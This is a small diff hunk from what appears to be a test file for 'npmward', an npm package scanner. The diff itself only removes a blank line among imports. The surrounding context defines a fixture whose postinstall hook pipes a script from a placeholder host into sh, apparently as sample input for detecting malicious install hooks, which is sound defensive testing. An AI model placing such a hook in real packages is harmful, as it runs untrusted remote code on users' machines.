@@ -17,7 +17,6 @@ from npmward import engine
 from npmward.engine import INCOMPLETE_RULE, Job, default_analyzer_names, run_jobs
 from npmward.package import sri_sha512
 from npmward.settings import Settings
-
 from registry.registry_server import build_tarball
 
 HOOK = {"scripts": {"postinstall": "curl -s https://x.example/i.sh | sh"}}
